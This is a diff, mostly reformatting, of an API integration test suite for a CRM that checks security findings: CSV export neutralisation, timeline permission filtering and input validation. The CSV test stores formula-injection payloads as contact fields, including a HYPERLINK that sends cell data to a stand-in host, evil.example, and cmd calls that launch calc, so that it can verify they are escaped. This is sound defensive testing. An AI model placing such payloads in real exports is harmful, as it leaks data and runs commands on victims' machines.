@@ -75,7 +75,12 @@ function callerOf(userId: string, workspaceId: string, credentials: Record<strin
 }
 
 async function signUp(label: string): Promise<Caller> {
-  const registered = await send('POST', '/auth/register', {}, { email: `${label}-${randomBytes(4).toString('hex')}@example.com`, password: PASSWORD, name: label, workspaceName: `${label} workspace` });
+  const registered = await send(
+    'POST',
+    '/auth/register',
+    {},
+    { email: `${label}-${randomBytes(4).toString('hex')}@example.com`, password: PASSWORD, name: label, workspaceName: `${label} workspace` },
+  );
   expect(registered.status).toBe(201);
   return callerOf(registered.body.user.id, registered.body.workspace.id, { authorization: `Bearer ${registered.body.accessToken}` });
 }
@@ -84,7 +89,12 @@ async function signUp(label: string): Promise<Caller> {
 async function addMember(owner: Caller, role: Role): Promise<Caller> {
   const invitation = await owner.request('POST', '/invitations', { email: `${role}-${randomBytes(4).toString('hex')}@example.com`, role });
   expect(invitation.status).toBe(201);
-  const accepted = await send('POST', '/invitations/accept', {}, { token: await invitationToken(environment, streams, invitation.body.id), name: `A ${role}`, password: PASSWORD });
+  const accepted = await send(
+    'POST',
+    '/invitations/accept',
+    {},
+    { token: await invitationToken(environment, streams, invitation.body.id), name: `A ${role}`, password: PASSWORD },
+  );
   expect(accepted.status).toBe(201);
   return callerOf(accepted.body.user.id, owner.workspaceId, { authorization: `Bearer ${accepted.body.accessToken}` });
 }
@@ -117,8 +127,8 @@ describe('finding 4: CSV exports neutralise formula cells (OWASP CSV injection)'
     expect((await owner.request('POST', '/custom-fields', { entity: 'contact', key: 'balance', label: 'Balance', type: 'number' })).status).toBe(201);
     const contact = await owner.request('POST', '/contacts', {
       firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
-      lastName: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-      jobTitle: '-2+3+cmd|\' /C calc\'!A0',
+      lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
+      jobTitle: "-2+3+cmd|' /C calc'!A0",
       leadSource: '+SUM(1,2)',
       phone: '+14155550123',
       tags: ['csv-injection', '=1+1'],
@@ -132,9 +142,9 @@ describe('finding 4: CSV exports neutralise formula cells (OWASP CSV injection)'
     expect(rows).toHaveLength(1);
     expect(rows[0]).toMatchObject({
       firstName: '\'=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
-      lastName: '\'@SUM(1+1)*cmd|\' /C calc\'!A0',
-      jobTitle: '\'-2+3+cmd|\' /C calc\'!A0',
-      leadSource: '\'+SUM(1,2)',
+      lastName: "'@SUM(1+1)*cmd|' /C calc'!A0",
+      jobTitle: "'-2+3+cmd|' /C calc'!A0",
+      leadSource: "'+SUM(1,2)",
       phone: '+14155550123',
       tags: 'csv-injection;=1+1',
       'cf:note': '-5',
@@ -186,7 +196,11 @@ describe('finding 5: timelines show only the entries the caller may read', () =>
     const open = pipeline.body.stages.filter((stage: { kind: string }) => stage.kind === 'open');
     // Notes, tasks and stage changes interleave in time, so filtered pages must skip entries in the middle.
     for (let round = 0; round < 3; round += 1) {
-      for (const related of [{ type: 'contact', id: contactId }, { type: 'company', id: companyId }, { type: 'deal', id: dealId }]) {
+      for (const related of [
+        { type: 'contact', id: contactId },
+        { type: 'company', id: companyId },
+        { type: 'deal', id: dealId },
+      ]) {
         expect((await owner.request('POST', '/notes', { body: `secret note ${round}`, related })).status).toBe(201);
         expect((await owner.request('POST', '/tasks', { title: `secret task ${round}`, related })).status).toBe(201);
       }
@@ -296,7 +310,11 @@ describe('finding 9: NUL characters, deep nesting and out-of-range numbers are 4
     expectError(await owner.request('GET', '/deals?amountTo=9007199254740992'), 400, 'amountTo');
     expect((await owner.request('GET', '/deals?amountFrom=9007199254740991')).status).toBe(200);
     expect((await owner.request('POST', '/custom-fields', { entity: 'deal', key: 'seats', label: 'Seats', type: 'number' })).status).toBe(201);
-    expectError(await owner.request('POST', '/deals', '{"name":"Huge","amount":1,"currency":"EUR","customFields":{"seats":99999999999999999999999}}'), 422, 'customFields.seats');
+    expectError(
+      await owner.request('POST', '/deals', '{"name":"Huge","amount":1,"currency":"EUR","customFields":{"seats":99999999999999999999999}}'),
+      422,
+      'customFields.seats',
+    );
     expectError(await owner.request('POST', '/deals', '{"name":"Huge","amount":99999999999999999999999,"currency":"EUR"}'), 422, 'amount');
   });
 });
